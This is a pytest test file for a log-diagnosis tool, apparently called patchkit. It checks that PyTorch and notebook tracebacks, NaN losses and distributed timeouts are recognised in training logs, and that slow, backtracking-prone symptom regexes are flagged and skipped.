def test_a_thread_that_is_told_before_the_head_is_no_notebook() -> None:
    [raised] = read("Exception in thread 1: " + RAISED.format("KeyError: 1")).raised
    assert [(frame.file, frame.line) for frame in raised.traceback.frames] == [("train.py", 7)]


@pytest.mark.parametrize(
    "error",
    [
        "torch.distributed.DistStoreError: Socket Timeout",
        "torch.distributed.DistStoreError: Timed out after 61 seconds waiting for clients. 1/2 clients joined.",
    ],
)
def test_a_store_that_waited_in_vain_is_a_timeout(error: str) -> None:
    assert rules(RAISED.format(error)) == ["ddp-timeout"]


def test_many_lines_of_one_kind_are_kept_to_a_few() -> None:
    log = read(assertions("IndexKernel.cu:92: operator()", INDEX, 50_000))
    assert max(len(lines) for lines in log.lines.values()) == 20
    log = read(RAISED.format("ValueError: x") * 500 + RAISED.format("KeyError: 'last'"))
    assert len(log.raised) == 41
    assert log.raised[-1].traceback.error == "KeyError: 'last'"


def test_words_that_hold_nan_do_not_hide_a_loss() -> None:
    assert rules("finance banana nanny loss 1.2\n" * 50_000 + ROW.format("nan") + "\n") == ["loss-nan"]


@pytest.mark.parametrize(
    "prefix",
    [
        "[rank0]:",
        "[default0]:",
        "[1,0]<stderr>:",
        "0: ",
        " 3: ",
        "trainer-1  | ",
        "2024-05-01T10:00:0{0}.12345{0}789Z ",
        "2024-05-01 10:00:0{0},123 - ERROR - ",
        "[2024-05-01 10:00:0{0}] ERROR: ",
        "[pod/train-0/main] ",
        "    ",
        "> ",
    ],
)
def test_what_stands_before_every_line_does_not_hide_a_traceback(prefix: str) -> None:
    lines = [f"{prefix.format(number % 10)}{line}\n" for number, line in enumerate(RETINANET.splitlines())]
    [(rule, _, commands)] = found("".join(lines))
    assert (rule, commands[:2]) == (
        "index-out-of-bounds",
        ("patchkit apply retinanet-label-guard --path /workspace/ssd/model/retinanet.py", BLOCKING),
    )


def test_what_stands_before_the_head_alone_hides_no_traceback() -> None:
    for before in ("ERROR: ", " 50%|###  | 3/6 ", "worker 1 died: "):
        [raised] = read(before + RAISED.format("KeyError: 1")).raised
        assert (raised.traceback.error, len(raised.traceback.frames)) == ("KeyError: 1", 1)


@pytest.mark.parametrize("count", [1, 60])
def test_other_tracebacks_do_not_hide_the_one_that_an_assertion_led_to(count: int) -> None:
    other = RAISED.format("ConnectionError: retry").replace("train.py", "/v/lib/python3/site-packages/wandb/send.py")
    assertion, _, crash = RETINANET.partition("Traceback")
    [(_, _, commands)] = found(assertion + other * count + "Traceback" + crash + other * count)
    assert commands[0] == "patchkit apply retinanet-label-guard --path /workspace/ssd/model/retinanet.py"


def test_two_processes_that_print_at_once_are_told_apart() -> None:
    lines = RAISED.format("KeyError: 1").splitlines()
    log = read("".join(f"[rank{rank}]: {line}\n" for line in lines for rank in (0, 1)))
    assert [raised.traceback.error for raised in log.raised] == ["KeyError: 1", "KeyError: 1"]
    assert [len(raised.traceback.frames) for raised in log.raised] == [1, 1]


def test_tracebacks_of_notebooks_of_both_kinds() -> None:
    old = (
        "---------------------------------------------------------------------------\n"
        "IndexError                                Traceback (most recent call last)\n"
        "<ipython-input-11-6a4b> in <module>\n"
        "     31 for batch in loader:\n"
        "---> 32     loss = criterion(logits, labels)\n"
        "\n"
        "~/venv/lib/python3.7/site-packages/torch/nn/functional.py in cross_entropy(input, target, weight)\n"
        "   2422 \n"
        "-> 2424     return nll_loss(input, target)\n"
        "\n"
        "IndexError: Target -1 is out of bounds.\n"
    )
    [raised] = read(old).raised
    assert [(frame.line, frame.code) for frame in raised.traceback.frames] == [
        (32, "loss = criterion(logits, labels)"),
        (2424, "return nll_loss(input, target)"),
    ]
    [(_, _, commands)] = found(old)
    assert commands[0] == "patchkit apply cross-entropy-ignore-index --path NOTEBOOK.ipynb"


@pytest.mark.parametrize(
    ("text", "error", "frames"),
    [
        ('Traceback (most recent call last):\n  File "a.py", line 1, in f\n', "", 1),
        ("C++ Traceback (most recent call last):\n0   paddle::framework::Run()\n", None, 0),
        ("Traceback (most recent call last):\nnothing that is known\n" * 3, None, 0),
        (
            'Traceback (most recent call last):\n  File "a.py", line 1\n    x = (\n        ^\nSyntaxError: bad\n',
            "SyntaxError: bad",
            1,
        ),
        (
            'Traceback (most recent call last):\n  File "a.py", line 1, in f\n    g()\n    ^^^\n  50%|####    | 3/6\n'
            "  [Previous line repeated 3 more times]\ntorch.cuda.OutOfMemoryError: CUDA out of memory.\n",
            "torch.cuda.OutOfMemoryError: CUDA out of memory.",
            1,
        ),
    ],
)
def test_tracebacks_that_are_cut_or_mixed_with_other_lines(text: str, error: str | None, frames: int) -> None:
    raised = read(text).raised
    assert [one.traceback.error for one in raised] == ([] if error is None else [error])
    assert sum(len(one.traceback.frames) for one in raised) == frames


SNIPPETS = [
    *(
        "Traceback (most recent call last):\n",
        '  File "a.py", line 3, in f\n',
        "    g()\n",
        "KeyError: 1\n",
        "\r",
        "\n",
    ),
    *(
        "RuntimeError ",
        "Traceback (most recent call last)",
        "---> 3 x\n",
        "Cell In[1], line 4\n",
        "mode=train, device=0,",
    ),
    *(
        "engine/trainer: ",
        "Optimizer stripped from",
        "ignoring 'lr0=",
        "loss: nan",
        " nan",
        "[rank0]: ",
        "0: ",
        "\x1b[1m",
    ),
    *("Assertion `", "t >= 0 && t < n_classes", ".cu:1: ", " failed", "device-side assert triggered", "Scanning "),
    *(
        "Watchdog caught collective operation timeout",
        "' is not a valid YOLO argument",
        "ValueError: Target ",
        "$ yolo ",
    ),
    *(
        "model=yolov10x.yaml, ",
        "train data='",
        "\xff\xfe",
        "\x00",
        "é汉",
        "IndexError: Target -1 is out of bounds",
        "=" * 70,
    ),
]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(SNIPPETS) | st.text(max_size=8), max_size=40).map("".join), st.binary(max_size=50))
def test_no_log_is_a_bug(text: str, junk: bytes) -> None:
    from patchkit.output.diagnosis_json import render_diagnosis as as_json
    from patchkit.output.diagnosis_text import render_diagnosis as as_text
    from patchkit.output.sarif import render as as_sarif

    try:
        done = diagnose(["-"], io.BytesIO(text.encode("utf-8", "replace") + junk))
    except SourceUnreadable:  # it is no text
        return
    for line in as_text(done).splitlines():
        assert line.isprintable()
    for one in json.loads(as_json(done))["findings"]:
        assert one["why"]
        assert one["commands"]
    as_sarif(done.report, done.rules)


# Symptoms of patches.


@pytest.mark.parametrize(
    ("pattern", "fault"),
    [
        (r"(a+)+$", "nested"),
        (r"(?:ab)*c", "nested"),
        (r"(a|a)*b", "nested"),
        (r"a.*b.*c", "more than one"),
        (r"(a)\1", "group"),
        (r"\w{1,90}\w{1,90}\w{1,90}x", "share"),
        (r"(?=(a*)+)x", "nested"),
        (r"(?:x|(?:y+)+)z", "nested"),
        (r"error \w+ here", None),
        (r"in f\s+x = .view\(", None),
        (r"abc(?:def)?[0-9]{1,20}", None),
    ],
)
def test_patterns_that_may_take_long_are_told(pattern: str, fault: str | None) -> None:
    told = fault_of(pattern)
    assert told is None if fault is None else fault in str(told)


@pytest.mark.parametrize(
    ("pattern", "literal"),
    [
        (r"CUBLAS_STATUS_[A-Z_]+ when", "CUBLAS_STATUS_"),
        (r"^lowercase (?:inner part)$", "lowercase inner part"),
        (r"(?i)abcdef", None),
        (r"(?i:abcdef)", None),
        (r"a|b", None),
        (r"abc", None),
        (r"(?:maybe)?never \d", "never "),
    ],
)
def test_a_symptom_is_looked_for_by_text_that_it_must_hold(pattern: str, literal: str | None) -> None:
    assert literal_of(pattern) == literal


@pytest.fixture
def pack(tmp_path: Path) -> Pack:
    return Pack(tmp_path / "packs")


def test_a_pack_brings_its_symptoms(pack: Pack, patchkit: Run, tmp_path: Path) -> None:
    room = pack.add("third-mosaic", "Mosaic.call", extra="symptoms: ['mosaic border \\d+ is odd']\n")
    (room / "README.md").write_text("# third-mosaic\n\n## Cause\n\nThe border is\nhalved twice.\n\nMore.\n")
    log = tmp_path / "train.log"
    log.write_text("AssertionError: mosaic border 321 is odd\n")
    answer = patchkit("diagnose", log, env=pack.env)
    assert answer.out.splitlines() == [
        f"{log}:1: note [third-mosaic] a symptom of what patch third-mosaic mends: a patch of a third party",
        "    why: The border is halved twice.",
        "    1: AssertionError: mosaic border 321 is odd",
        "    run: patchkit apply third-mosaic",
        f"notes aside, no known failure in {log}",
        "it holds no traceback either",
        "0 errors, 0 warnings, 1 note",
    ]


def test_a_symptom_that_could_hang_is_left_out_and_told(pack: Pack, patchkit: Run, tmp_path: Path) -> None:
    pack.add("third-slow", "A.b", extra="symptoms: ['catastrophe (x+)+$', '(?i)no text', 'plain symptom']\n")
    log = tmp_path / "train.log"
    log.write_text("catastrophe " + "x" * 5000 + "!\nplain symptom\n")
    answer = patchkit("diagnose", log, "--format", "json", env=pack.env)
    assert [skipped["rule"] for skipped in answer.json["skipped"]] == ["third-slow", "third-slow"]
    assert "nested" in answer.json["skipped"][0]["reason"]
    assert [one["rule"] for one in answer.json["findings"]] == ["third-slow"]
    assert "skipped [third-slow]" in patchkit("diagnose", log, env=pack.env).out


def test_a_symptom_that_takes_too_long_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    from patchkit.diagnose import symptoms
    from patchkit.subjects.train_log import log as log_module

    monkeypatch.setattr(log_module, "PATIENCE", -1.0)
    monkeypatch.setattr(symptoms, "PATIENCE", -1.0)
    done = diagnose(["-"], io.BytesIO(cublas("/x").encode()))
    assert any(skipped.rule == "yolov10-dfl" and "too long" in skipped.reason for skipped in done.skipped)


def test_a_broken_pack_is_an_error(pack: Pack, patchkit: Run, tmp_path: Path) -> None:
    pack.add("third-broken", "A.b", extra="symptoms: ['(']\n")
    log = tmp_path / "train.log"
    log.write_text("")
    assert patchkit("diagnose", log, env=pack.env).code == 2
